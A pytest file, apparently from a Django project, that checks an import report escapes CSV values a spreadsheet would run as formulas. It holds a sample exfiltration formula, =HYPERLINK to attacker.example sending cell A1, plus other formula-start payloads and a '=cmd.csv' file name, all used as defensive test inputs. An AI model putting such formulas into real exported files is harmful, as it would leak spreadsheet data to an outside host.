"""`import --report FILE.csv`: a value from a hostile file is shown as text, never run by a spreadsheet."""

import csv

import pytest

from missionfacts.cli import main
from missionfacts.imports.problems import ImportResult, Problem
from missionfacts.imports.tests.helpers import in_english  # noqa: F401 (a fixture)
from missionfacts.imports.tests.test_un_fatalities import GOOD_ROW, fatalities_file

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def test_a_report_quotes_a_bad_value_that_a_spreadsheet_would_run_as_a_formula(tmp_path):
    report = tmp_path / "report.csv"
    path = fatalities_file(tmp_path, GOOD_ROW.replace(",SEN,", f',"{FORMULA.replace(chr(34), 2 * chr(34))}",'))
    with pytest.raises(SystemExit):
        main(["import", "un-fatalities", str(path), "--report", str(report)])
    lines = list(csv.reader(report.read_text(encoding="utf-8").splitlines()))
    assert lines[1][2:4] == ["isocode3", "'" + FORMULA]


def test_every_formula_start_is_quoted_and_a_plain_negative_number_stays_a_number():
    values = ["+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-12.50", "-3"]
    result = ImportResult(file="a.csv", kind="un-fatalities",
                          problems=[Problem("a.csv", 2, "latitude", value, "out of range") for value in values])
    rows = list(csv.reader(result.problems_as_csv().splitlines(keepends=True)))
    assert [row[3] for row in rows[1:]] == ["'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\t=1+1", "'\r=1+1", "-12.50", "-3"]


def test_a_file_name_starting_like_a_formula_is_quoted_in_the_report():
    result = ImportResult(file="=cmd.csv", kind="un-fatalities",
                          problems=[Problem("=cmd.csv", None, "", "", "the file is empty")])
    rows = list(csv.reader(result.problems_as_csv().splitlines()))
    assert rows[1][0] == "'=cmd.csv"
